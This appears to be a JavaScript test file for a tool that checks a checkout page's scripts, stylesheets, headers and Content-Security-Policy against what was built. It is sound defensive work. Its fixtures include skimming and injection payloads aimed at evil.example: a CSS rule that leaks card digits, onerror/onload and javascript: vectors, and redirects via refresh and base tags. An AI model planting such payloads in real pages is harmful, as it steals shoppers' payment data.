import { createHash } from 'node:crypto';
import { createServer } from 'node:http';
import { afterAll, beforeAll, beforeEach, describe, expect, test } from '@jest/globals';
import { problemsOfMarkup } from './checkout-markup.mjs';
import { problemsOfPolicy } from './checkout-policy.mjs';
import { verifyCheckout } from './verify-checkout.mjs';

const PAGE =
  '<title>Checkout</title><script type="module" src="/assets/checkout-1.js"></script><link rel="stylesheet" href="/assets/checkout-1.css">';
const ORDER_PAGE = '/checkout/order_0000000000000000';
const FIXED = {
  'default-src': "'none'",
  'script-src': "'self'",
  'style-src': "'self'",
  'img-src': "'self' data:",
  'form-action': "'self'",
  'base-uri': "'none'",
};
const policyOf = (origin, ancestors = "'self'") =>
  Object.entries({
    ...FIXED,
    'connect-src': `'self' ${origin.replace(/^http/, 'ws')}`,
    'frame-src': 'https: http://localhost:8100',
    'frame-ancestors': ancestors,
  })
    .map(directive => directive.join(' '))
    .join('; ');
const hashOf = text => `sha384-${createHash('sha384').update(text).digest('base64')}`;

/** What the server serves, which each test spoils in its own way. */
let served;
let headers;
let headersOfOrder;
let server;
let url;

beforeAll(async () => {
  server = createServer((request, response) => {
    const body = served[request.url];
    const more = request.url === '/checkout/order_1' ? headersOfOrder : headers;
    response.writeHead(body === undefined ? 404 : 200, more).end(body);
  });
  await new Promise(resolve => server.listen(0, '127.0.0.1', resolve));
  url = `http://127.0.0.1:${server.address().port}`;
});

afterAll(async () => {
  server.closeAllConnections();
  await new Promise(resolve => server.close(resolve));
});

beforeEach(() => {
  headers = {
    'content-security-policy': policyOf(url),
    'permissions-policy': 'camera=()',
    'referrer-policy': 'strict-origin',
    'x-content-type-options': 'nosniff',
  };
  headersOfOrder = headers;
  served = {
    '/checkout': PAGE,
    [ORDER_PAGE]: PAGE,
    '/checkout?order_id=order_0000000000000000': PAGE,
    '/checkout/order_1': PAGE,
    '/checkout.js': 'loader()',
    '/checkout.js.sri': `${hashOf('loader()')}\n`,
    '/assets/checkout-1.js': 'checkout()',
    '/assets/checkout-1.css': 'input {}',
  };
});

const INVENTORY = {
  page: { integrity: hashOf(PAGE) },
  scripts: [
    { path: '/checkout.js', integrity: hashOf('loader()') },
    { path: '/assets/checkout-1.js', integrity: hashOf('checkout()') },
  ],
  styles: [{ path: '/assets/checkout-1.css', integrity: hashOf('input {}') }],
  policy: FIXED,
};
const verify = options => verifyCheckout(url, INVENTORY, options);

test('a checkout as it was built has no problems', async () => {
  expect(await verify()).toEqual([]);
});

test.each([
  [
    'a script with one more letter',
    () => (served['/assets/checkout-1.js'] += ';'),
    /checkout-1\.js is not what was built/,
  ],
  [
    'a stylesheet with one more rule',
    () => (served['/assets/checkout-1.css'] += 'input[value^="4"] { background: url(//evil.example) }'),
    /checkout-1\.css is not what was built/,
  ],
  [
    'a loader of somebody else',
    () => (served['/checkout.js'] = 'skim()'),
    /\/checkout\.js is not what was built/,
  ],
  [
    'another published hash',
    () => (served['/checkout.js.sri'] = hashOf('skim()')),
    /checkout\.js\.sri publishes/,
  ],
  ['a script that is gone', () => delete served['/assets/checkout-1.js'], /answered 404/],
  ['a page with one more space', () => (served['/checkout'] += ' '), /\/checkout: The page is not what was/],
  [
    "an order's page that is another",
    () => (served[ORDER_PAGE] += '<script>skim()</script>'),
    /order_0{16}: The page has an inline script/,
  ],
  ['a policy that is another', () => (headers['content-security-policy'] += '; worker-src *'), /worker-src/],
  ['no policy', () => delete headers['content-security-policy'], /no Content-Security-Policy/],
  ['no Permissions-Policy', () => delete headers['permissions-policy'], /permissions-policy is missing/],
  ['a header that leads away', () => (headers['refresh'] = '0; url=https://evil.example'), /refresh leads/],
])('%s is told', async (_name, spoil, problem) => {
  spoil();
  expect((await verify()).join('\n')).toMatch(problem);
});

test("the page of an order may be shown by the shop's origins that were named, and by no other", async () => {
  const shop = 'https://shop.example';
  headersOfOrder = { ...headers, 'content-security-policy': policyOf(url, `'self' ${shop}`) };
  expect(await verify({ order: 'order_1', embeddedBy: [shop] })).toEqual([]);
  expect((await verify({ order: 'order_1' })).join()).toMatch(/frame-ancestors is 'self' https:\/\/shop/);
});

describe('a policy', () => {
  const origin = 'https://pay.example';
  const good = policyOf(origin);
  const problemsOf = policy => problemsOfPolicy(policy, { fixed: FIXED, origin }).join('\n');

  test('is right when it is the expected one, in whatever order', () => {
    expect(problemsOf(good)).toBe('');
    expect(problemsOf(good.split('; ').reverse().join(';'))).toBe('');
  });

  test.each([
    [
      'inline scripts',
      good.replace("script-src 'self'", "script-src 'self' 'unsafe-inline'"),
      /script-src is/,
    ],
    ['everybody frames it', good.replace("ancestors 'self'", 'ancestors *'), /frame-ancestors is \*/],
    [
      'a whole scheme frames it',
      good.replace("ancestors 'self'", "ancestors 'self' https:"),
      /frame-ancestors/,
    ],
    [
      'every subdomain frames it',
      good.replace("ancestors 'self'", "ancestors 'self' https://*.shop.example"),
      /frame-ancestors/,
    ],
    ['a first directive that counts', `script-src *; ${good}`, /names script-src twice/],
    ['a second directive', `${good}; script-src 'self'`, /names script-src twice/],
    ['scripts by element', `${good}; script-src-elem *`, /has script-src-elem/],
    ['answers to anybody', good.replace('wss://pay.example', 'https:'), /connect-src is/],
    ['pictures to anybody', good.replace("img-src 'self' data:", 'img-src *'), /img-src is/],
    ['any frame', good.replace('frame-src https:', 'frame-src *'), /frame-src has \*/],
    ['a frame without TLS', good.replace('frame-src https:', 'frame-src http:'), /frame-src has http:/],
    ['a foreign frame without TLS', good.replace('localhost:8100', 'evil.example:80'), /frame-src has http/],
    ['no frame-src', good.replace(/frame-src [^;]*; /, ''), /frame-src is missing/],
    ['a missing default', good.replace("default-src 'none'; ", ''), /default-src is missing/],
    ['two policies in one', `${good}, default-src *`, /frame-ancestors is/],
  ])('with %s is told', (_name, policy, problem) => {
    expect(policy).not.toBe(good);
    expect(problemsOf(policy)).toMatch(problem);
  });

  test('of two directives counts the first, as in browsers', () => {
    expect(problemsOf(`script-src *; ${good}`)).toMatch(/script-src is \*/);
  });
});

describe('markup', () => {
  const known = new Set(['/assets/checkout-1.js', '/assets/checkout-1.css']);

  test('of the page as built has no problems', () => {
    expect(problemsOfMarkup(PAGE, known)).toEqual([]);
  });

  test.each([
    ['<script>skim()</script>', /inline script/],
    ['<script src="/assets/checkout-1.js">skim()</script>', /inline script: skim/],
    ['<SCRIPT src=https://cdn.example/a.js></SCRIPT>', /loads https:\/\/cdn\.example/],
    ['<link rel="modulepreload" href="/assets/x.js">', /loads \/assets\/x\.js/],
    ['<link href=//evil.example/a.css rel=stylesheet>', /loads \/\/evil/],
    ['<img src="x" onerror="skim()">', /onerror=skim/],
    ['<img src=x onerror=skim()>', /onerror=skim/],
    ['<img/onerror=skim()/src=x>', /onerror=skim/],
    ['<svg\nonload = skim()>', /onload=skim/],
    ['<meta http-equiv="refresh" content="0;url=https://evil.example">', /http-equiv/],
    ['<META HTTP-EQUIV=refresh content=0>', /HTTP-EQUIV/],
    ['<a href=javascript:skim()>', /javascript/],
    ['<iframe src="https://evil.example"></iframe>', /iframe/],
    ['<base href="https://evil.example">', /base/],
    ['<form action="https://evil.example">', /form/],
    ['<div style="background:url(//evil.example)">', /style/],
  ])('%s is told', (html, problem) => {
    expect(problemsOfMarkup(PAGE + html, known).join('\n')).toMatch(problem);
  });
});
